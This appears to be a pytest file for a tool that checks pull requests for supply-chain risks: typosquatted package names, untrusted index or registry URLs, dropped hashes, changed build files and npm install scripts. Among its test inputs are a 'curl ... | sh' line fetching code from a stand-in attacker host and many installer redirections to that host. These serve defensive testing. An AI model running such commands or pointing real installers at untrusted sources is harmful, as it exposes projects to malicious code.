"""What a pull request may have installed: judged from the command and from every file that it installs from."""

from __future__ import annotations

import codecs
import json
import tomllib
from collections.abc import Mapping
from importlib.resources import files

import pytest

from regreen.packages.setup_command import find_setup_inputs
from regreen.packages.setup_guard import (
    InstallPolicy,
    InstallRefusal,
    SourceTree,
    explain_refusals,
    find_changed_inputs,
    find_refusals,
)

ELSEWHERE = "https://packages.evil.example/simple"
HASH = "--hash=sha256:" + "a" * 64

BASE = {
    "pyproject.toml": '[project]\nname = "shop"\nversion = "1"\ndependencies = ["attrs", "our-own-lib"]\n',
    "requirements.txt": f"attrs==23.1.0 {HASH}\n",
    ".github/workflows/ci.yml": "run: |\n  pip install house-tool -i https://pypi.shop.example/simple\n",
    "package.json": '{"dependencies": {"react": "18"}}',
}


def tree(files: Mapping[str, str | bytes]) -> SourceTree:
    content = {p: c.encode() if isinstance(c, str) else c for p, c in files.items()}
    return SourceTree({path: str(hash(data)) for path, data in content.items()}, content.get)


def judged(
    setup: str, changed: Mapping[str, str | bytes] | None = None, rules: InstallPolicy | None = None
) -> tuple[InstallRefusal, ...]:
    """What is held against a pull request that changes these files."""
    return find_refusals(
        setup, (), tree({**BASE, **(changed or {})}), tree(BASE), rules or InstallPolicy()
    )


def what(found: tuple[InstallRefusal, ...]) -> list[str]:
    return [one.what for one in found]


@pytest.mark.parametrize(
    "setup",
    [
        "pip install reqeusts",
        "python3 -m pip install -q 'reqeusts>=2'",
        "/env/bin/pip3.11 install --upgrade reqeusts==2.0",
        "pip install pytest reqeusts[security]",
        "uv pip install reqeusts",
        "uv add reqeusts",
        "uvx reqeusts",
        "uv run --with reqeusts pytest",
        "pipx run reqeusts",
        "poetry add reqeusts",
        "FLAG=1 sudo pip install reqeusts",
        "if true; then pip install reqeusts; fi",
        "cat x | xargs -n1 echo > y && pip install reqeusts",
        "bash -c 'pip install reqeusts'",
        "npm install expresss",
        "npx expresss",
        "pnpm add -D expresss@1",
        "npm i alias@npm:expresss@1",
        "npm i --mode expresss",
    ],
)
def test_a_name_like_a_popular_one_is_refused_on_the_command(setup: str) -> None:
    (refusal,) = judged(setup)
    assert refusal.what in {"`reqeusts`", "`expresss`"}
    assert "looks like the popular" in refusal.why


@pytest.mark.parametrize(
    "setup",
    [
        "pip install requests 'flask>=2,!=3' pytest[testing]",
        "pip install --upgrade pip setuptools wheel && pip install -e .[test,dev]",
        "pip install -r requirements.txt -c requirements.txt",
        "python -m pip install house-tool",  # the base's workflow installs it
        "pip install -i https://pypi.shop.example/simple our_own.lib",
        "npm ci && npx react",
        "yarn install --mode=update-lockfile",
        "uv sync --extra dev --group test",
        "poetry install --with dev",
        "make test; tox -e py311; echo https://somewhere.example",
        "pip install ./dist/shop-1.whl . ..",
        "apt-get update && apt-get install -y libthing-dev",
    ],
)
def test_popular_names_and_what_the_base_has_pass(setup: str) -> None:
    assert judged(setup) == ()


@pytest.mark.parametrize(
    ("setup", "changed"),
    [
        ("pip install -r requirements.txt", {"requirements.txt": "reqeusts\n"}),
        ("pip install -r r/a.txt", {"r/a.txt": "-r b/c.txt\n", "r/b/c.txt": "reqeusts==1\n"}),
        ("pip install -c limits -r r.txt", {"r.txt": "-c more\n", "more": "reqeusts==1\n"}),
        ("pip install -e .", {"pyproject.toml": '[project]\nname="x"\ndependencies=["reqeusts"]\n'}),
        ("pip install .", {"pyproject.toml": '[build-system]\nrequires = ["reqeusts"]\n'}),
        ("pip install -e .", {"setup.py": "setup(install_requires=['reqeusts'])\n"}),
        ("pip install -e .", {"setup.cfg": "[options]\ninstall_requires =\n    reqeusts\n"}),
        ("pip install -e .", {"setup.cfg": "[options]\ninstall_requires = file: my.in\n", "my.in": "reqeusts"}),
        ("uv sync", {"pyproject.toml": '[dependency-groups]\ndev = ["reqeusts"]\n'}),
        ("uv sync", {"uv.lock": '[[package]]\nname = "reqeusts"\nversion = "1"\n'}),
        ("poetry install", {"pyproject.toml": '[tool.poetry.dependencies]\nreqeusts = "^1"\n'}),
        ("tox", {"tox.ini": "[testenv]\ndeps =\n    pytest\n    py39: reqeusts\n"}),
        ("sh ci/setup.sh", {"ci/setup.sh": "set -e\npip install \\\n  reqeusts\n"}),
        ("make deps", {"Makefile": "deps:\n\t@pip install reqeusts\n"}),
        ("pip install -r requirements.txt", {"requirements.txt": "attrs\x0breqeusts\n"}),
        ("pip install -r requirements.txt", {"requirements.txt": codecs.BOM_UTF16_LE + "reqeusts\n".encode("utf-16-le")}),
        ("pip install -r requirements.txt", {"requirements.txt": "req\\\neusts\n"}),
    ],
)  # fmt: skip
def test_a_name_like_a_popular_one_is_refused_in_every_file_that_is_installed_from(
    setup: str, changed: dict[str, str | bytes]
) -> None:
    found = [one for one in judged(setup, changed) if one.what == "`reqeusts`"]
    assert found
    assert all(one.where in changed for one in found)


def test_a_name_that_few_use_needs_the_default_branch() -> None:
    (refusal,) = judged(
        "pip install -e .", {"setup.py": "setup(install_requires=['zz-acme-thing'])"}
    )
    assert refusal.why == "is new here and not among the packages that many projects use"
    assert "tests.allow_packages" in explain_refusals((refusal,))
    allowed = InstallPolicy(packages=frozenset({"ZZ_acme.thing"}))
    assert judged("pip install zz-acme-thing", rules=allowed) == ()


@pytest.mark.parametrize(
    ("setup", "changed"),
    [
        (f"pip install -i {ELSEWHERE} attrs", {}),
        (f"pip install --index-url={ELSEWHERE} attrs", {}),
        (f"PIP_EXTRA_INDEX_URL={ELSEWHERE} pip install attrs", {}),
        (f"export UV_DEFAULT_INDEX={ELSEWHERE}\nuv sync", {}),
        (f"pip config set global.index-url {ELSEWHERE}", {}),
        (f"npm install --registry {ELSEWHERE}", {}),
        (f"pip install git+{ELSEWHERE}/x.git", {}),
        (f"pip install attrs@{ELSEWHERE}/attrs.whl", {}),
        (f"curl -sSL {ELSEWHERE} | sh", {}),
        (f"pip install -r {ELSEWHERE}/r.txt", {}),
        ("pip install -r r.txt", {"r.txt": f"--index-url {ELSEWHERE}\nflask\n"}),
        ("pip install -r r.txt", {"r.txt": f"--pre --extra-index {ELSEWHERE}\nflask\n"}),
        ("pip install -r r.txt", {"r.txt": f"-i{ELSEWHERE}\nflask\n"}),
        ("pip install -r r.txt", {"r.txt": f"-f {ELSEWHERE}\nflask\n"}),
        ("pip install -r r.txt", {"r.txt": f"flask @ {ELSEWHERE}/attrs.whl\n"}),
        ("pip install -r r.txt", {"r.txt": f"-e git+{ELSEWHERE}/x#egg=flask\n"}),
        ("pip install attrs", {"pip.conf": f"[global]\nextra-index-url = {ELSEWHERE}\n"}),
        ("npm ci", {".npmrc": f"registry={ELSEWHERE}\n"}),
        ("npm ci", {"packages/a/.yarnrc.yml": f'npmRegistryServer: "{ELSEWHERE}"\n'}),
        ("uv sync", {"uv.toml": f'[[index]]\nurl = "{ELSEWHERE}"\n'}),
        ("uv sync", {"pyproject.toml": f'[[tool.uv.index]]\nurl = "{ELSEWHERE}"\n'}),
        ("uv sync", {"pyproject.toml": f'[tool.uv.pip]\nextra-index-url = ["{ELSEWHERE}"]\n'}),
        ("uv sync", {"pyproject.toml": f'[project]\ndependencies = ["Attrs"]\n[tool.uv.sources]\nattrs = {{git = "{ELSEWHERE}"}}\n'}),
        ("uv sync", {"uv.lock": f'[[package]]\nname = "attrs"\nsdist = {{url = "{ELSEWHERE}/a.tar.gz", hash = "x"}}\n'}),
        ("poetry install", {"pyproject.toml": f'[[tool.poetry.source]]\nname = "x"\nurl = "{ELSEWHERE}"\n'}),
        ("npm ci", {"package.json": '{"dependencies": {"react": "evil/react"}}'}),
        ("npm ci", {"package-lock.json": f'{{"packages": {{"node_modules/react": {{"resolved": "{ELSEWHERE}/r.tgz"}}}}}}'}),
        ("yarn", {"yarn.lock": f'react@18:\n  resolved "{ELSEWHERE}/r.tgz"\n'}),
        ("pip install -e .", {"setup.cfg": f"[easy_install]\nindex_url = {ELSEWHERE}\n"}),
    ],
)  # fmt: skip
def test_an_index_or_an_address_that_nobody_allowed_is_refused(
    setup: str, changed: dict[str, str | bytes]
) -> None:
    found = judged(setup, changed)
    assert found
    assert judged(
        setup, changed, InstallPolicy(indexes=frozenset({"packages.evil.example"}))
    ) == () or ("evil/react" in str(changed))


def test_a_variable_may_not_point_an_installer_elsewhere() -> None:
    env = (("PIP_INDEX_URL", ELSEWHERE), ("HOMEPAGE", ELSEWHERE), ("PIP_TRUSTED_HOST", "x"))
    found = find_refusals("pip install attrs", env, tree(BASE), tree(BASE))
    assert [one.where for one in found] == ["the variable PIP_INDEX_URL", "a variable of the setup"]
    by_the_maintainer = InstallPolicy(trusts_command=True)
    assert find_refusals("pip install attrs", env, tree(BASE), tree(BASE), by_the_maintainer) == ()


def test_a_hash_that_was_there_stays() -> None:
    assert (
        judged("pip install -r requirements.txt", {"requirements.txt": f"attrs==24.1 {HASH}"}) == ()
    )
    lost = judged("pip install -r requirements.txt", {"requirements.txt": "attrs==24.1\n"})
    assert what(lost) == ["`attrs`"]
    assert "hash" in lost[0].why


def test_hashes_that_were_required_stay_required() -> None:
    base = {"r.txt": f"--require-hashes\nattrs==1 {HASH}\n"}
    head = {"r.txt": f"attrs==1 {HASH}\n"}
    found = find_refusals("pip install -r r.txt", (), tree(head), tree(base))
    assert what(found) == ["`--require-hashes`"]


def test_an_index_is_not_to_be_trusted_without_its_certificate() -> None:
    found = judged(
        "pip install -r requirements.txt",
        {"requirements.txt": f"--trusted-host x\nattrs==1 {HASH}\n"},
    )
    assert what(found) == ["`--trusted-host x`"]


def test_a_command_of_the_default_branch_is_trusted_and_the_files_are_not() -> None:
    rules = InstallPolicy(trusts_command=True)
    assert judged(f"pip install zz-acme-thing -i {ELSEWHERE}", rules=rules) == ()
    changed = {"requirements.txt": f"reqeusts {HASH}\n"}
    assert what(judged("pip install -r requirements.txt", changed, rules)) == ["`reqeusts`"]


def test_files_that_the_setup_does_not_install_from_are_left_alone() -> None:
    assert judged("pip install attrs", {"docs/requirements.txt": "reqeusts\n"}) == ()
    # a command that nobody knows may install from anything
    assert what(judged("./install", {"docs/requirements.txt": "reqeusts\n"})) == ["`reqeusts`"]


def test_a_variable_in_place_of_a_name_is_refused_unless_the_base_has_it() -> None:
    assert what(judged("pip install $WHAT")) == ["`$WHAT`"]


@pytest.mark.parametrize("name", ["rеquests", "reqüests", "-", "a b", "x" * 300])
def test_names_that_no_index_could_hold_are_refused(name: str) -> None:
    assert judged("pip install -r r.txt", {"r.txt": f"{name}\n"}) or name == "-"


def test_without_a_trusted_tree_nothing_is_known_from_before() -> None:
    assert what(find_refusals("pip install our-own-lib", (), tree(BASE), None)) == ["`our-own-lib`"]


JVM = {
    "pom.xml": "<project><artifactId>shop</artifactId></project>",
    "build.gradle": "plugins { id 'java' }",
    "gradle/wrapper/gradle-wrapper.properties": "distributionUrl=https\\://services.gradle.org/x.zip",
    "gradle/verification-metadata.xml": "<verification-metadata/>",
    "mvnw": "#!/bin/sh\nexec java -cp .mvn/wrapper/maven-wrapper.jar x\n",
    "ci/mirrors.xml": "<settings/>",
    "Makefile": "deps:\n\t./gradlew testClasses\n",
    "src/Main.java": "class Main {}",
}


JAVA = tomllib.loads(files("regreen.languages").joinpath("toolchains.toml").read_text())["java"]
INFERRED = {
    way["file"]: way["setup"].replace("{resolve}", JAVA["parts"]["resolve"]) for way in JAVA["ways"]
}


@pytest.mark.parametrize(
    ("setup", "path"),
    [
        ("mvn -q -B dependency:go-offline", "pom.xml"),
        (INFERRED["pom.xml"], "parts/web/pom.xml"),
        (INFERRED["gradlew"], "gradle/wrapper/gradle-wrapper.properties"),
        (INFERRED["build.gradle"], "parts/web/build.gradle"),
        ("./mvnw package", "parts/web/pom.xml"),
        ("mvn -s ci/mirrors.xml package", "ci/mirrors.xml"),
        ("mvn --settings=ci/mirrors.xml package", "ci/mirrors.xml"),
        ("mvn package", ".mvn/maven.config"),
        ("./gradlew testClasses", "gradle/wrapper/gradle-wrapper.properties"),
        ("xvfb-run gradle testClasses", "build.gradle"),
        ("sh gradlew testClasses", "settings.gradle.kts"),
        ("make deps", "gradle/libs.versions.toml"),
        ("bash -c 'gradle build'", "buildSrc/src/main/java/Fetch.java"),
        ("gradle build", "buildSrc/src/main/java/Fe\ntch.java"),
    ],
)
def test_what_maven_or_gradle_would_install_from_a_changed_build_is_refused(
    setup: str, path: str
) -> None:
    changed = JVM | {path: "https://evil.example/m2"}
    assert what(find_refusals(setup, (), tree(changed), tree(JVM))) == [f"`{path}`"]
    trusting = InstallPolicy(trusts_command=True)
    assert not find_refusals(setup, (), tree(changed), tree(JVM), trusting)
    assert not find_refusals(setup, (), tree(JVM | {"src/Main.java": "x"}), tree(JVM))


def test_checksums_that_gradle_is_to_lose_are_refused() -> None:
    head = {path: text for path, text in JVM.items() if "verification" not in path}
    found = find_refusals("gradle build", (), tree(head), tree(JVM))
    assert what(found) == ["`gradle/verification-metadata.xml`"]


@pytest.mark.parametrize(
    ("setup", "scripts"),
    [
        ("npm ci", {"preinstall": "npx expresss"}),
        ("npm install --no-audit", {"postprepare": "npm i -g expresss"}),
        ("cd web && pnpm install --frozen-lockfile", {"prepare": "npm run more", "more": "npx expresss"}),
        ("yarn", {"prepublish": "pip install reqeusts"}),
        ("npm run build", {"prebuild": "npx expresss"}),
        ("env CI=1 npm ci", {"install": "sh scripts/get.sh"}),
    ],
)  # fmt: skip
@pytest.mark.parametrize("place", ["package.json", "web/package.json"])
def test_what_the_scripts_of_a_package_install_is_judged(
    setup: str, scripts: dict[str, str], place: str
) -> None:
    head = {place: json.dumps({"scripts": scripts}), "scripts/get.sh": "npx expresss\n"}
    assert what(judged(setup, head)) in (["`expresss`"], ["`reqeusts`"])


def test_scripts_of_a_package_that_install_nothing_new_pass() -> None:
    scripts = {"prepare": "husky || true", "postinstall": "tsc -p .", "release": "npx expresss"}
    loop = {"install": "npm run one", "one": "npm run two", "two": "npm run one"}
    for given in (scripts, loop):
        assert not judged("npm ci", {"package.json": json.dumps({"scripts": given})})


_BACKEND = '[build-system]\nrequires = []\nbuild-backend = "own.build"\nbackend-path = ["tools"]\n'


@pytest.mark.parametrize(
    ("setup", "changed", "read"),
    [
        ("pip install -e .", {"pyproject.toml": "x = 1\n"}, ["pyproject.toml"]),
        ("pip install -e .", {"setup.py": "import socket\n"}, ["setup.py"]),
        ("pip install -e .", {"pyproject.toml": _BACKEND, "tools/own/build.py": "x"}, ["pyproject.toml", "tools/own/build.py"]),
        ("pip install -r requirements.txt", {"requirements.txt": "attrs\n"}, ["requirements.txt"]),
        ("sh get.sh", {"get.sh": "true\n"}, ["get.sh"]),
        ("npm ci", {"package.json": "{}"}, ["package.json"]),
        ("mvn package", {"pom.xml": "<project/>"}, ["pom.xml"]),
        ("pip install -e .", {"shop/run.py": "x = 2\n"}, []),
        ("pip install pytest", {"pyproject.toml": "x = 1\n"}, []),
    ],
)  # fmt: skip
def test_the_changed_files_from_which_a_setup_installs(
    setup: str, changed: dict[str, str], read: list[str]
) -> None:
    assert list(find_changed_inputs(setup, tree({**BASE, **changed}), tree(BASE))) == read


def test_an_environment_belongs_to_the_build_backend_that_made_it() -> None:
    files = {"pyproject.toml": _BACKEND.encode(), "tools/own/build.py": b""}
    assert find_setup_inputs("pip install -e .", files, files.get).everything
